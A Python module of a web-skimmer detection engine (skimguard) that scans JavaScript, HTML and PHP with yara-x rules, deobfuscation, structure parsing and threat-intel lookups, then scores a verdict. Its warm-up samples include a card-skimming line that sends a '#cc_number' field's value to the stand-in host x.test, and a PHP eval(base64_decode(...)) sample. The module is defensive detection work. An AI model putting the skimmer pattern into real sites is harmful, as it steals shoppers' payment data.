"""The static analysis engine: one file (or captured script) in, a verdict that explains itself out.

Pipeline, cheapest first:

1. **Known good.** A file whose sha256 is on a known-good list (marked by a human, or a shipped
   list of library releases) is clean without further work.
2. **Extract.** The file is cut into segments (:mod:`.extract`): a JavaScript file is one; an HTML
   page gives each inline script and event handler plus the markup; PHP gives its code and what it
   prints.
3. **Rules.** Every segment is scanned with the yara-x rules of its language (:mod:`.yara_rules`
   compiles one set per language, so a PHP block does not pay for the JavaScript rules). A segment that
   comes again in the file (same language, origin and text: ``<?php } ?>``, a repeated handler)
   is analysed once; the rule hits of small segments are remembered across files
   (:data:`SMALL_SEGMENT_CHARS`), since the same small pieces come back all over a web root.
4. **Triage** (:mod:`.triage`) decides which deep layer a segment is worth:

   - **Normalize** (:mod:`.normalize`) only when the segment shows an obfuscation marker; the
     normalized text, when it changed, is scanned with the rules again.
   - **Structure** (:mod:`.structure`, tree-sitter) for JavaScript that names card, checkout,
     login or anti-analysis data and has a sink (as written or as normalized); a segment larger
     than one structure window only with evidence (a rule of medium or higher severity, or card
     words that decoding revealed). The text as written is parsed too when only its normalized
     form qualifies: the structure layer's own resolver keeps the "decoded" aggravators.
   - **Intel** (SG450, when a feed is loaded): one hit per file is kept, the first in the text as
     written, so look-ups stop at the first; normalized texts are looked up only when the text as
     written has none, and a text without any indicator's name is not looked up at all (one
     prefilter scan of the whole file answers for the segments that are slices of it).

   Deep work on a file stops when :data:`DEEP_BUDGET_SECONDS` are spent (a safety net against
   hostile input; a problem says so), and every skip that can cost a finding is a problem too.
5. **Verdict.** Each distinct rule adds points by severity (halved for low confidence); the
   structure layer's convicting combinations (staging of card data, a fake payment form) or any
   critical hit (card data + a computed sink + a strong aggravator) make it ``malicious``.

Pure apart from the yara-x and tree-sitter libraries: no I/O, bounded in size and time.
"""

from __future__ import annotations

import functools
import hashlib
import time
from collections.abc import Callable, Collection, Iterable
from dataclasses import dataclass, field, replace

import yara_x

from skimguard.analyze import structure, triage, yara_rules
from skimguard.analyze.extract import MAX_ANALYZE_CHARS, detect_language, extract_segments, segment_position
from skimguard.analyze.model import CodeHit, FileVerdict, Language, Layer, Normalized, RuleInfo, Segment, Verdict
from skimguard.analyze.normalize import normalize
from skimguard.errors import SkimguardError
from skimguard.intel import IntelIndex
from skimguard.models import Confidence, Severity

POINTS = {Severity.INFO: 0, Severity.LOW: 1, Severity.MEDIUM: 3, Severity.HIGH: 6, Severity.CRITICAL: 10}
MALICIOUS_AT = 10
SUSPICIOUS_AT = 4
# Structure combinations that convict on their own (see structure.structure_catalog()): card data
# staged for later, a fake payment form; SG440 (card data sent to a computed URL) convicts only at
# critical, with a strong aggravator (checkout gate, real encoding, decoded URL, anti-analysis).
CONVICTING = frozenset({"SG441", "SG442"})
MAX_EXCERPT = 200
DEEP_BUDGET_SECONDS = 5.0  # per file: normalization and structure start only before it is spent

SG450 = RuleInfo(
    rule_id="SG450",
    layer=Layer.INTEL,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    title="Code names a host or URL listed by threat intel",
    description=(
        "The code contains a URL, host name or gate path that an imported threat-intelligence feed "
        "lists as a skimmer or collector. Feeds are optional; without one this rule is silent."
    ),
    false_positives="Stale feed entries; a listed path that legitimate software also uses.",
)


# Small inputs that take every layer once: rule sets, triage scans, the tokenizers and the
# JavaScript parser are built on first use; :func:`warm_up` builds them before the first real file.
_WARM_UP_SAMPLES: tuple[tuple[bytes, str], ...] = (
    (
        b"var _0x1=['\\x63ard'];document.querySelector('#cc_number').addEventListener('change',"
        b"function(){new Image().src='https://x.test/?d='+btoa(this.value)});",
        "warm-up.js",
    ),
    (b"<?php $a = 'ev'.'al'; echo \"\\x41\"; eval(base64_decode('ZWNobyAxOw==')); ?>", "warm-up.php"),
    (b"<html><body onload=\"x()\"><script>document.write('<b>1</b>')</script></body></html>", "warm-up.html"),
)


def warm_up(options: Options | None = None) -> None:
    """Build what the engine builds on first use (compiled rules, the triage and threat-intel
    prefilters, the parsers), so that the first real file does not pay for it: the analysis
    pool's workers call it when they start."""
    for language in Language:
        yara_rules.packaged_rule_set(language)
    for data, path in _WARM_UP_SAMPLES:
        analyze_bytes(data, path, options)


def catalog() -> tuple[RuleInfo, ...]:
    """Every code rule the engine can report, sorted by ID (the documentation of ``SG4xx``)."""
    rules = [*yara_rules.rule_catalog(), *structure.structure_catalog(), SG450]
    return tuple(sorted(rules, key=lambda r: r.rule_id))


@dataclass(frozen=True)
class Options:
    intel: IntelIndex | None = None
    known_good: Collection[str] = ()  # sha256 digests


def analyze_bytes(
    data: bytes,
    path: str = "-",
    options: Options | None = None,
    *,
    sha256: str | None = None,
    size: int | None = None,
) -> FileVerdict:
    """Analyse one file's bytes; ``path`` picks the language (by extension, else by content).
    ``sha256``/``size`` describe the whole file when ``data`` is only its head."""
    options = options or Options()
    digest = sha256 or hashlib.sha256(data).hexdigest()
    size = len(data) if size is None else size
    language = detect_language(path, data[:4096])
    if digest in options.known_good:
        return FileVerdict(path, digest, language, size, Verdict.CLEAN, 0, problems=("known good (by hash)",))
    problems: list[str] = []
    text = _decode(data, problems)
    if len(text) > MAX_ANALYZE_CHARS:
        problems.append(f"too large: the first {MAX_ANALYZE_CHARS // (1024 * 1024)} MiB analysed")
        text = text[:MAX_ANALYZE_CHARS]
    hits, traits = analyze_text(text, language, intel=options.intel, problems=problems)
    score, verdict = judge(hits)
    return FileVerdict(
        path=path,
        sha256=digest,
        language=language,
        size=size,
        verdict=verdict,
        score=score,
        hits=tuple(hits),
        problems=tuple(problems),
        traits=tuple(traits),
    )


def _decode(data: bytes, problems: list[str]) -> str:
    try:
        return data.decode("utf-8")
    except UnicodeDecodeError:
        problems.append("not UTF-8: read as Latin-1")
        return data.decode("latin-1")


def analyze_text(
    text: str, language: Language, *, intel: IntelIndex | None = None, problems: list[str] | None = None
) -> tuple[list[CodeHit], list[str]]:
    """Hits (one per rule, the strongest) and the traits seen, for a whole file's text."""
    problems = problems if problems is not None else []
    found: dict[str, CodeHit] = {}
    traits: list[str] = []
    deep = _Deep(deadline=time.monotonic() + DEEP_BUDGET_SECONDS)
    intel = intel if intel else None
    prefilter = triage.intel_prefilter(intel) if intel is not None else None
    slices = _SLICE_ORIGINS.get(language, frozenset())
    spaceless = isinstance(prefilter, triage.IntelPrefilter) and prefilter.spaceless
    if language is Language.PHP and spaceless:
        # the markup with the PHP blanked out, and its scripts: what they hold between blanks is in
        # the file, and no needle spans a blank
        slices = slices | {"file", "script"}
    segments = extract_segments(text, language)
    found_intel = _IntelState(may_match=prefilter, text=text, slices=slices, spaceless=spaceless)
    if intel is not None and spaceless:
        found_intel.others = [s.text for s in segments if not found_intel.is_slice(s, s.text)]
    seen: set[tuple[Language, str, str]] = set()
    for segment in segments:
        key = (segment.language, segment.origin, segment.text)
        if key in seen:
            # The same code again (``<?php } ?>``, a repeated ``echo '<input …>'``, a handler used
            # on every row): its hits have the same rules and severities as the first copy's, which
            # comes earlier and is kept, so the copy cannot change the result.
            continue
        seen.add(key)
        for hit in _segment_hits(segment, intel, traits, problems, deep, found_intel):
            old = found.get(hit.rule_id)
            if old is None or (hit.severity, -hit.normalized) > (old.severity, -old.normalized):
                found[hit.rule_id] = hit
    if intel is not None and not found_intel.raw:
        # no indicator in the text as written: the first one in a normalized text, if any
        for index, (segment, code) in enumerate(found_intel.normalized):
            if not found_intel.may_match_normalized(index):
                continue
            decoded_hit = _intel_hit(intel, segment, code, True, found_intel)
            if decoded_hit is not None:
                found[decoded_hit.rule_id] = decoded_hit
                break
    problems.extend(deep.problems())
    hits = sorted(found.values(), key=lambda h: (-h.severity, h.rule_id))
    return hits, traits


@dataclass
class _Deep:
    """Bookkeeping of the deep layers (normalization, structure) for one file: the time budget
    and what was skipped, reported as problems."""

    deadline: float
    no_evidence: int = 0
    largest_skipped: int = 0
    over_budget: int = 0
    cut_short: int = 0

    def allowed(self) -> bool:
        if time.monotonic() <= self.deadline:
            return True
        self.over_budget += 1
        return False

    def check_cut(self) -> None:
        """After a normalization: was it stopped by the budget?"""
        if time.monotonic() > self.deadline:
            self.cut_short += 1

    def problems(self) -> list[str]:
        out = []
        if self.no_evidence:
            out.append(
                f"structure layer skipped on {self.no_evidence} segment(s) larger than "
                f"{triage.STRUCTURE_FREE_BYTES // 1024} KiB without evidence (no rule hit of medium or higher "
                f"severity, no decoded card, checkout or login words; largest {self.largest_skipped // 1024} KiB)"
            )
        if self.over_budget or self.cut_short:
            out.append(
                f"deep analysis time budget ({DEEP_BUDGET_SECONDS:g} s) spent: normalization cut short "
                f"{self.cut_short} time(s), normalization or structure skipped {self.over_budget} time(s)"
            )
        return out


@dataclass
class _IntelState:
    """Threat-intel look-ups of one file. Only one SG450 hit is kept per file, the first found in
    the text as written (a hit in normalized text only counts when there is none): so the scan
    stops at the first hit as written, normalized texts wait until the end, and an inline script
    is not scanned again after the page that holds it (its matches are the page's)."""

    may_match: Callable[[str], bool] | None = None  # triage.intel_prefilter
    raw: bool = False
    page_scanned: bool = False
    normalized: list[tuple[Segment, str]] = field(default_factory=list)
    text: str = ""  # the whole file
    slices: frozenset[str] = frozenset()  # origins of segments that are slices of the file
    file_clear: bool | None = None  # the prefilter found nothing in the whole file (None: not asked yet)
    # No needle holds a space or a line break (triage.IntelPrefilter.spaceless), so the prefilter finds
    # in texts joined with line breaks exactly what it finds in one of them: one scan answers for many.
    spaceless: bool = False
    others: list[str] = field(default_factory=list)  # the texts of the segments that are no slices
    others_clear: bool | None = None  # the prefilter found nothing in any of them (None: not asked yet)
    new_texts: list[str] | None = None  # per normalized text, what the prefilter must see (None: not asked yet)
    new_texts_clear: bool = False  # the prefilter found nothing in any of them

    def is_slice(self, segment: Segment, code: str) -> bool:
        """Is ``code`` (the text as written of ``segment``) the file or a slice of it?"""
        return segment.origin in self.slices or (len(code) == len(self.text) and code == self.text)

    def may_match_raw(self, segment: Segment, code: str) -> bool:
        """The prefilter for text as written. What it finds in a slice of the file it finds in the
        file, so one scan of the whole file answers for the file itself, the inline scripts of a
        page and the PHP blocks of a PHP file (see :mod:`.extract`). The other segments (``echo``
        of a PHP literal, event handlers) are asked together first (:attr:`spaceless`): most files
        have none of the needles, and a scan costs more than the few bytes of a handler."""
        if self.may_match is None:
            return True
        if self.is_slice(segment, code):
            if self.file_clear is None:
                self.file_clear = not self.may_match(self.text)
            return not self.file_clear
        if self.others_clear is None and len(self.others) > 1:
            self.others_clear = not self.may_match("\n".join(dict.fromkeys(self.others)))
        return not self.others_clear and self.may_match(code)

    def raw_clear(self, segment: Segment) -> bool:
        """Is it known that the prefilter found nothing in ``segment``'s text as written?"""
        if self.is_slice(segment, segment.text):
            return self.file_clear is True
        return self.others_clear is True

    def may_match_normalized(self, index: int) -> bool:
        """The prefilter for the normalized text ``self.normalized[index]``. When the text as
        written is known clear, what the normalized one shares with it holds no needle, so only
        the rest is looked at (:meth:`_new_text`): that of every normalized text of the file in
        one scan, and a text's own only when that scan finds something."""
        if self.may_match is None:
            return True
        if not self.spaceless:
            return self.may_match(self.normalized[index][1])
        if self.new_texts is None:
            self.new_texts = [self._new_text(segment, code) for segment, code in self.normalized]
            self.new_texts_clear = len(self.new_texts) > 1 and not self.may_match("\n".join(self.new_texts))
        return not self.new_texts_clear and self.may_match(self.new_texts[index])

    def _new_text(self, segment: Segment, code: str) -> str:
        """What the prefilter must see of the normalized ``code``: all of it, unless the
        segment's text as written is known clear. Then a needle can only be where decoding
        changed the text: not in the start and end it shares with the text as written (a needle
        there would be in that text), so the middle with a needle's length on either side is
        enough; and not in a line of the middle that is a line of the text as written (no needle
        spans a line break)."""
        if not self.raw_clear(segment) or not isinstance(self.may_match, triage.IntelPrefilter):
            return code
        written = segment.text
        start = _common_prefix(written, code)
        end = len(code) - _common_prefix(written[start:][::-1], code[start:][::-1])
        reach = max(0, self.may_match.longest - 1)  # a needle spans as many characters at most
        middle = code[max(0, start - reach) : end + reach]
        if len(middle) < _LINE_SET_CHARS:
            return middle
        lines = set(written.split("\n"))
        return "\n".join(line for line in middle.split("\n") if line not in lines)


_LINE_SET_CHARS = 4096  # a shorter middle is scanned as it is: splitting the text as written costs more


def _common_prefix(a: str, b: str) -> int:
    """The length of the longest common prefix of ``a`` and ``b`` (a binary search over slice
    comparisons: a few passes in C instead of a Python loop over the characters)."""
    low, high = 0, min(len(a), len(b))
    while low < high:
        mid = (low + high + 1) // 2
        if a[:mid] == b[:mid]:
            low = mid
        else:
            high = mid - 1
    return low


# segments that are verbatim slices of the file, by the file's language (a PHP file's inline scripts
# are slices of its markup with the PHP blanked out, not of the file)
_SLICE_ORIGINS: dict[Language, frozenset[str]] = {
    Language.HTML: frozenset({"script"}),
    Language.PHP: frozenset({"php"}),
}


def _intel_hit(
    intel: IntelIndex, segment: Segment, code: str, is_normalized: bool, state: _IntelState
) -> CodeHit | None:
    if not is_normalized and not state.may_match_raw(segment, code):
        return None  # (normalized texts are filtered by the caller: _IntelState.may_match_normalized)
    for offset, matched, indicator in intel.scan_text(code, limit=1):
        line, column = (0, 0) if is_normalized else segment_position(segment, offset)
        return CodeHit(
            rule_id=SG450.rule_id,
            layer=Layer.INTEL,
            severity=SG450.severity,
            confidence=SG450.confidence,
            title=f"{SG450.title}: {matched[:80]}",
            explanation=f"{matched[:120]} is listed by {indicator.source} ({indicator.kind.value} "
            f"{indicator.value[:120]}).",
            excerpt=matched[:MAX_EXCERPT],
            line=line or segment.line,
            column=column or segment.column,
            normalized=is_normalized,
        )
    return None


def _rules(code: str, language: Language, problems: list[str]) -> list[CodeHit]:
    try:
        if len(code) <= SMALL_SEGMENT_CHARS:
            return list(_small_segment_rules(yara_rules.packaged_rules(), code, language))
        return yara_rules.scan_rules(code, language=language)
    except SkimguardError as exc:  # a rule scan that hit its time limit
        problems.append(f"rules: {exc}")
        return []


SMALL_SEGMENT_CHARS = 2048


@functools.lru_cache(maxsize=4096)
def _small_segment_rules(rules: yara_x.Rules, code: str, language: Language) -> tuple[CodeHit, ...]:
    """The rule hits of a small segment, remembered across files: the same handler, ``echo`` of a
    form field or ``<?php } ?>`` comes back in file after file of a web root, and a scan costs
    more than its few bytes. ``rules`` (the packaged set, from which :func:`yara_rules.scan_rules`
    takes its per-language sets) ties an entry to the compiled rules it came from; a scan that times
    out raises and is not remembered."""
    return tuple(yara_rules.scan_rules(code, language=language))


def _segment_hits(
    segment: Segment,
    intel: IntelIndex | None,
    traits: list[str],
    problems: list[str],
    deep: _Deep,
    found_intel: _IntelState,
) -> Iterable[CodeHit]:
    raw_hits = _rules(segment.text, segment.language, problems)
    normalized: Normalized | None = None
    if triage.obfuscation_markers(segment.text, segment.language) and deep.allowed():
        try:
            normalized = normalize(segment, deadline=deep.deadline)
            deep.check_cut()
        except Exception as exc:  # a normalizer bug must not cost the file its verdict
            problems.append(f"normalization failed in {segment.origin}: {type(exc).__name__}")
    texts = [(segment.text, False, raw_hits)]
    if normalized is not None and normalized.changed:
        texts.append((normalized.text, True, _rules(normalized.text, segment.language, problems)))
        for step in normalized.steps:
            if f"decoded:{step}" not in traits and len(traits) < 40:
                traits.append(f"decoded:{step}")
    structure_texts = _structure_texts(segment, texts, deep) if segment.language is Language.JS else set()
    for code, is_normalized, rule_hits in texts:
        for hit in rule_hits:
            yield _place(hit, segment, is_normalized)
        if is_normalized in structure_texts and deep.allowed():
            for hit in structure.structure_hits(code):
                for trait in hit.traits:
                    if trait not in traits and len(traits) < 40:
                        traits.append(trait)
                yield _place(hit, segment, is_normalized)
        if intel is None:
            continue
        if is_normalized:
            found_intel.normalized.append((segment, code))
        elif not found_intel.raw and not (segment.origin == "script" and found_intel.page_scanned):
            intel_hit = _intel_hit(intel, segment, code, False, found_intel)
            found_intel.raw = intel_hit is not None
            found_intel.page_scanned = found_intel.page_scanned or (
                segment.origin == "file" and segment.language is Language.HTML
            )
            if intel_hit is not None:
                yield intel_hit


def _structure_texts(segment: Segment, texts: list[tuple[str, bool, list[CodeHit]]], deep: _Deep) -> set[bool]:
    """Which texts of a JavaScript segment (False: as written, True: normalized) the structure
    layer should parse. The text as written is parsed when it, or its normalized form, is a
    candidate (the structure layer's own resolver sees through what normalization undid and keeps
    the "decoded" aggravators); a large text only with rule evidence (see :mod:`.triage`)."""
    candidate = {is_normalized: triage.structure_candidate(code) for code, is_normalized, _ in texts}
    wanted = {False} if any(candidate.values()) else set()
    if candidate.get(True):
        wanted.add(True)
    if not wanted:
        return wanted
    evidence = any(h.severity >= Severity.MEDIUM for _, _, hits in texts for h in hits) or (
        len(texts) > 1 and triage.revealed_vocabulary(segment.text, texts[1][0])
    )
    for code, is_normalized, _ in texts:
        if is_normalized in wanted and triage.structure_needs_evidence(code) and not evidence:
            wanted.discard(is_normalized)
            deep.no_evidence += 1
            deep.largest_skipped = max(deep.largest_skipped, len(code))
    return wanted


def _place(hit: CodeHit, segment: Segment, is_normalized: bool) -> CodeHit:
    """A hit's position in the file: exact for text as written, the segment's start otherwise."""
    if is_normalized or hit.line <= 0:
        return replace(hit, line=segment.line, column=segment.column, normalized=is_normalized,
                       excerpt=hit.excerpt[:MAX_EXCERPT])  # fmt: skip
    if hit.line == 1:
        line, column = segment.line, segment.column + hit.column - 1
    else:
        line, column = segment.line + hit.line - 1, hit.column
    return replace(hit, line=line, column=column, excerpt=hit.excerpt[:MAX_EXCERPT])


def judge(hits: Iterable[CodeHit]) -> tuple[int, Verdict]:
    """Score and verdict of a file's hits (one per rule)."""
    score = 0
    convicted = False
    high = False
    for hit in hits:
        points = POINTS[hit.severity]
        score += points if hit.confidence >= Confidence.MEDIUM else (points + 1) // 2
        convicted = convicted or hit.rule_id in CONVICTING or hit.severity is Severity.CRITICAL
        high = high or hit.severity >= Severity.HIGH
    if convicted or score >= MALICIOUS_AT:
        return score, Verdict.MALICIOUS
    if high or score >= SUSPICIOUS_AT:
        return score, Verdict.SUSPICIOUS
    return score, Verdict.CLEAN
